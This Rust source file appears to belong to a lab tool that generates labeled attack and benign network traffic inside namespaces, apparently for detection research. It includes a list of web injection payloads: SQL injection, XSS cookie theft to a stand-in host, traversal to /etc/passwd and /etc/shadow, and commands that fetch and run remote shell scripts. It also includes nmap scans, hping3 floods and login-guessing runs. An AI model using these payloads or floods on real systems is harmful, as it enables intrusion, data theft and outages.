//! Running a [`Scenario`]: the tools' command lines, their scripts and
//! payloads, each run in the source's namespace under a time bound.
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};
use std::time::Instant;

use anyhow::{Context, Result, bail};

use super::{Budget, Report, Scenario};
use crate::lab::{Lab, Role, addr};

/// `ip netns exec <ns> <argv...>`
pub(crate) fn in_ns(lab: &Lab, role: Role, argv: &[&str]) -> Command {
    let mut c = Command::new("ip");
    c.args(["netns", "exec", &lab.ns(role)]).args(argv);
    c
}

/// Runs `argv` in a namespace under `timeout --kill-after=2 <secs>` and
/// returns its (stdout, stderr). Exit status 0, 124 (the time bound hit)
/// and `also_ok` are accepted; any other is an error with the tool's stderr.
fn run_bounded_ok(
    lab: &Lab,
    role: Role,
    secs: f64,
    argv: &[&str],
    also_ok: &[i32],
) -> Result<(String, String)> {
    let t = format!("{secs:.1}");
    let mut full = vec!["timeout", "--kill-after=2", t.as_str()];
    full.extend_from_slice(argv);
    let out = in_ns(lab, role, &full)
        .stdin(Stdio::null())
        .process_group(0)
        .output()
        .with_context(|| format!("starting {}", argv.join(" ")))?;
    let text = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    match out.status.code() {
        Some(0) | Some(124) => {}
        Some(c) if also_ok.contains(&c) => {}
        _ => bail!(
            "`{}` in {} failed: {}: {}",
            argv.join(" "),
            lab.ns(role),
            out.status,
            text(&out.stderr).trim()
        ),
    }
    Ok((text(&out.stdout), text(&out.stderr)))
}

fn run_bounded(lab: &Lab, role: Role, secs: f64, argv: &[&str]) -> Result<String> {
    run_bounded_ok(lab, role, secs, argv, &[]).map(|(out, _)| out)
}

/// Injection payloads: `GET` paths, or `POST:<form body>` to `/login`.
pub(super) const INJECTIONS: &[&str] = &[
    "/search?q=1%27%20OR%20%271%27%3D%271",
    "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/item?id=1;DROP%20TABLE%20users;--",
    "/comment?text=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/profile?name=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fshadow",
    "/download?file=../../../../../../etc/passwd",
    "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/api/exec?cmd=%60id%60%7C%7Cwget%20http://198.51.100.99/x.sh",
    "POST:username=admin%27--&password=x",
    "POST:user=root&pass=1%27%20OR%20%271%27=%271",
    "POST:q=$(curl http://203.0.113.99/s|sh)&submit=1",
    "POST:comment=<script>document.location='http://192.0.2.99/'+document.cookie</script>",
];

/// Ordinary pages.
pub(super) const PAGES: &[&str] = &[
    "/",
    "/index.html",
    "/about.html",
    "/news/2024/05/article-17.html",
    "/static/app.css",
    "/static/app.js",
    "/products?page=2&sort=price",
    "/search?q=network+gateway",
    "/contact.html",
];

/// Human-ish think times between page views (seconds), cycled.
const THINK: &[&str] = &[
    "0.4", "1.1", "0.3", "0.8", "1.6", "0.5", "0.9", "0.2", "1.3", "0.7",
];

const HTTP_INJECTION_SH: &str = include_str!("../../scripts/http_injection.sh");

const BENIGN_HTTP_SH: &str = include_str!("../../scripts/benign_http.sh");

/// A browsing session. `variant` (the source's last number) rotates which
/// mix of actions the session starts with, so sessions differ.
const BENIGN_BROWSE_SH: &str = include_str!("../../scripts/benign_browse.sh");

const BENIGN_BULK_SH: &str = include_str!("../../scripts/benign_bulk.sh");

const BENIGN_POLL_SH: &str = include_str!("../../scripts/benign_poll.sh");

const DNS_PY: &str = include_str!("../../scripts/dns_client.py");

const SSH_PY: &str = include_str!("../../scripts/ssh_guess.py");

const BENIGN_SSH_PY: &str = include_str!("../../scripts/benign_ssh.py");

const NTP_PY: &str = include_str!("../../scripts/ntp_client.py");

const CRAFTED_PY: &str = include_str!("../../scripts/crafted_probes.py");

const SLOW_HTTP_PY: &str = include_str!("../../scripts/slow_http.py");

const HTTP_AUTH_PY: &str = include_str!("../../scripts/http_auth_guess.py");

const HTTP_FLOOD_SH: &str = include_str!("../../scripts/http_flood.sh");

/// Debian's Python, which has python3-scapy (a `python3` earlier on PATH
/// may not).
const SYSTEM_PYTHON: &str = "/usr/bin/python3";

/// The benign clients' think times between requests, scaled by `pace`.
fn think_times(pace: f64) -> String {
    THINK
        .iter()
        .map(|t| format!("{:.2}", t.parse::<f64>().unwrap_or(0.5) * pace))
        .collect::<Vec<_>>()
        .join(" ")
}

impl Scenario {
    /// Sends this traffic from `src` (an address configured in
    /// [`Scenario::role`]'s namespace) to the server, at most `budget`.
    /// `pace` stretches the tool's gaps (1.0 = the default rate, 2.0 =
    /// half of it) within the same time bound.
    pub fn run(self, lab: &Lab, src: &str, budget: Budget, pace: f64) -> Result<Report> {
        let v6 = src.contains(':');
        if v6 && !self.supports_ipv6() {
            bail!("{} has no IPv6 form", self.name());
        }
        let dst = if v6 { addr::SRV6 } else { addr::SRV4 };
        let base = if v6 {
            format!("http://[{dst}]")
        } else {
            format!("http://{dst}")
        };
        let n = budget.count.to_string();
        let secs = budget.secs;
        let role = self.role();
        let start = Instant::now();
        let parse = |out: &str| {
            out.trim()
                .lines()
                .last()
                .and_then(|l| l.parse::<u64>().ok())
        };
        let sent = match self {
            Scenario::NmapSyn | Scenario::NmapConnect => {
                let ports = format!("1-{}", budget.count);
                let rate = format!("{:.0}", 400.0 / pace);
                let mut argv = vec![
                    "nmap",
                    if self == Scenario::NmapSyn {
                        "-sS"
                    } else {
                        "-sT"
                    },
                    "-Pn",
                    "-n",
                    "-e",
                    "eth0",
                    "-S",
                    src,
                    "-p",
                    &ports,
                    "--max-retries",
                    "0",
                    "--max-rate",
                    &rate,
                    "--host-timeout",
                    "30s",
                    "-oG",
                    "-",
                ];
                if self == Scenario::NmapSyn {
                    argv.push("--send-ip");
                }
                if v6 {
                    argv.push("-6");
                }
                argv.push(dst);
                let out = run_bounded(lab, role, secs, &argv)?;
                if !out.contains("Ports:") && !out.contains("Nmap done") {
                    bail!("nmap printed no result: {out}");
                }
                u64::from(budget.count)
            }
            Scenario::SynFlood | Scenario::UdpFlood | Scenario::IcmpFlood | Scenario::AckFlood => {
                // Spread the count over 80 % of the time bound, scaled by pace.
                let gap_us = ((secs * 0.8e6 / f64::from(budget.count.max(1))) * pace).max(100.0);
                let gap_us = gap_us.min(secs * 1e6 / f64::from(budget.count.max(1)) * 0.95);
                let interval = format!("u{:.0}", gap_us);
                let mut argv = vec!["hping3", "-q", "-I", "eth0", "-a", src, "-c", &n];
                argv.extend(["-i", &interval]);
                match self {
                    Scenario::SynFlood => argv.extend(["-S", "-p", "80"]),
                    Scenario::UdpFlood => argv.extend(["--udp", "-p", "5000", "-d", "64"]),
                    // ACKs of no connection: to :80 from a new source port
                    // each (hping3's default); paced, to :443 from one
                    // fixed port with 16 bytes of data.
                    Scenario::AckFlood if pace > 1.0 => {
                        argv.extend(["-A", "-p", "443", "-s", "41000", "-k", "-d", "16"])
                    }
                    Scenario::AckFlood => argv.extend(["-A", "-p", "80"]),
                    _ => argv.extend(["--icmp", "-d", "56"]),
                }
                argv.push(dst);
                // hping3 exits 1 when nothing answered (the UDP sink never does).
                let (_, err) = run_bounded_ok(lab, role, secs, &argv, &[1])?;
                err.lines()
                    .find(|l| l.contains("packets transmitted"))
                    .and_then(|l| l.split_whitespace().next()?.parse().ok())
                    .with_context(|| format!("hping3 said: {err}"))?
            }
            Scenario::HttpInjection => {
                let gap = format!("{:.3}", 0.04 * pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                let mut argv = vec![
                    "sh",
                    "-c",
                    HTTP_INJECTION_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &gap,
                    &limit,
                ];
                argv.extend(INJECTIONS);
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::SshBruteforce => {
                // Four connections at a time at the default pace, two when
                // paced 2.5×.
                let lanes = format!("{:.0}", (4.0 / pace).round().clamp(1.0, 4.0));
                let gap = format!("{:.3}", 0.03 * pace);
                let limit = format!("{:.1}", secs * 0.85);
                let argv = [
                    SYSTEM_PYTHON,
                    "-c",
                    SSH_PY,
                    src,
                    dst,
                    &n,
                    &gap,
                    &limit,
                    &lanes,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignSsh => {
                // Commands 1.5 s × pace apart (× 0.4–1.8) on one key login.
                let key = super::sshd::client_key(lab);
                let key = key.to_string_lossy();
                let gap = format!("{:.2}", 1.5 * pace);
                let limit = format!("{:.1}", secs * 0.85);
                let argv = [
                    SYSTEM_PYTHON,
                    "-c",
                    BENIGN_SSH_PY,
                    src,
                    dst,
                    &key,
                    &n,
                    &gap,
                    &limit,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignHttp => {
                let think = think_times(pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                let mut argv = vec![
                    "sh",
                    "-c",
                    BENIGN_HTTP_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &think,
                    &limit,
                ];
                argv.extend(PAGES);
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignDns => {
                let gaps = ["0.02", "0.15", "0.05", "0.3", "0.04", "0.1", "0.2"]
                    .iter()
                    .map(|g| format!("{:.3}", g.parse::<f64>().unwrap_or(0.1) * pace))
                    .collect::<Vec<_>>()
                    .join(",");
                let limit = format!("{:.1}", secs * 0.85);
                // At the default pace one socket for every query; otherwise a new
                // socket (source port) per query, as a stub resolver does.
                let sockets = if pace == 1.0 { "one" } else { "each" };
                let argv = [
                    "python3", "-c", DNS_PY, src, dst, &n, &gaps, &limit, sockets,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignBrowse => {
                let think = think_times(pace);
                let limit = format!("{:.0}", (secs * 0.8).floor().max(1.0));
                // The source's last number (decimal or hex text) picks the variant.
                let variant = src
                    .rsplit(['.', ':'])
                    .next()
                    .and_then(|l| l.parse::<u32>().ok())
                    .unwrap_or(0)
                    .to_string();
                let argv = [
                    "sh",
                    "-c",
                    BENIGN_BROWSE_SH,
                    "sh",
                    src,
                    &base,
                    &n,
                    &think,
                    &limit,
                    &variant,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignBulk => {
                let argv = ["sh", "-c", BENIGN_BULK_SH, "sh", src, dst, &base, &n];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::CraftedScan | Scenario::AckScan | Scenario::SlowScan => {
                // 90 probes/s for the scans, one every 0.75 s for the slow
                // scan, all stretched by pace.
                let (mode, gap) = match self {
                    Scenario::CraftedScan => ("scan", 1.0 / 90.0),
                    Scenario::AckScan => ("ack", 1.0 / 90.0),
                    _ => ("slow", 0.75),
                };
                let gap = format!("{:.4}", gap * pace);
                let limit = format!("{:.1}", secs * 0.85);
                let argv = [
                    SYSTEM_PYTHON,
                    "-c",
                    CRAFTED_PY,
                    mode,
                    src,
                    dst,
                    &n,
                    &gap,
                    &limit,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::SlowHttp => {
                // 12 connections/s with a header line every second; slower
                // runs open fewer per second and wait 8 s between lines.
                let rate = format!("{:.2}", 12.0 / pace);
                let hgap = if pace > 1.0 { "8" } else { "1" };
                let limit = format!("{:.1}", secs * 0.85);
                let argv = [
                    SYSTEM_PYTHON,
                    "-c",
                    SLOW_HTTP_PY,
                    src,
                    dst,
                    &n,
                    &rate,
                    hgap,
                    &limit,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::HttpFlood => {
                // 12 parallel keep-alive connections, unthrottled; slower
                // runs one connection at 75 requests/s (their half count
                // then ends in 4 s, inside the time bound, which would
                // cut the count off).
                let (par, rate) = if pace > 1.0 { ("1", "75") } else { ("12", "0") };
                let argv = ["sh", "-c", HTTP_FLOOD_SH, "sh", src, &base, &n, par, rate];
                // grep -c exits 1 when it counted nothing.
                let (out, _) = run_bounded_ok(lab, role, secs, &argv, &[1])?;
                let answered = parse(&out).unwrap_or(0);
                if answered == 0 {
                    bail!("http_flood from {src}: no request was answered");
                }
                answered
            }
            Scenario::HttpAuthGuess => {
                // 15 guesses/s on one keep-alive connection; slower runs a
                // new connection per guess.
                let gap = format!("{:.3}", pace / 15.0);
                let mode = if pace > 1.0 { "close" } else { "keepalive" };
                let limit = format!("{:.1}", secs * 0.85);
                let argv = [
                    SYSTEM_PYTHON,
                    "-c",
                    HTTP_AUTH_PY,
                    src,
                    dst,
                    &n,
                    &gap,
                    mode,
                    &limit,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignBigfile => {
                // 30 MB/s, or 1.5 MB/s when paced (a slow link). Below
                // pace 1, a long download: the rate that spreads the file
                // over 70 % of the time bound (a steady multi-second ACK
                // stream at several MB/s).
                let limit_rate = if pace > 1.0 {
                    "1500k".to_string()
                } else if pace < 1.0 {
                    let kib = budget.count as f64 / 1024.0 / (secs * 0.7);
                    format!("{:.0}k", kib.max(1.0))
                } else {
                    "30M".to_string()
                };
                let url = format!("{base}/files/{n}");
                let argv = [
                    "curl",
                    "-s",
                    "-o",
                    "/dev/null",
                    "--interface",
                    src,
                    "--limit-rate",
                    &limit_rate,
                    "-w",
                    "%{size_download}\n",
                    &url,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignSntp => {
                // One clock check a second × pace.
                let gap = format!("{:.2}", pace);
                let limit = format!("{:.1}", secs * 0.85);
                let argv = ["python3", "-c", NTP_PY, src, dst, &n, &gap, &limit];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignPoll | Scenario::BenignStatus => {
                // A poller: one GET of the front page every 0.25 s × pace,
                // or of the health endpoint every 0.2 s × pace, a new
                // connection each.
                let (path, every) = if self == Scenario::BenignPoll {
                    ("/", 0.25)
                } else {
                    ("/status", 0.2)
                };
                let gap = format!("{:.2}", every * pace);
                let limit = format!("{:.0}", (secs * 0.85).floor().max(1.0));
                let url = format!("{base}{path}");
                let argv = [
                    "sh",
                    "-c",
                    BENIGN_POLL_SH,
                    "sh",
                    src,
                    &url,
                    &n,
                    &gap,
                    &limit,
                ];
                parse(&run_bounded(lab, role, secs, &argv)?).unwrap_or(0)
            }
            Scenario::BenignPing => {
                // One echo request every 150 ms × pace, 64 bytes (or 500
                // when paced).
                let period = format!("{:.0}", 150.0 * pace);
                let size = if pace > 1.0 { "500" } else { "64" };
                let argv = [
                    "fping", "-q", "-c", &n, "-p", &period, "-b", size, "-S", src, dst,
                ];
                run_bounded(lab, role, secs, &argv)?;
                u64::from(budget.count)
            }
        };
        Ok(Report {
            scenario: self,
            source: src.to_string(),
            sent,
            elapsed: start.elapsed(),
        })
    }
}
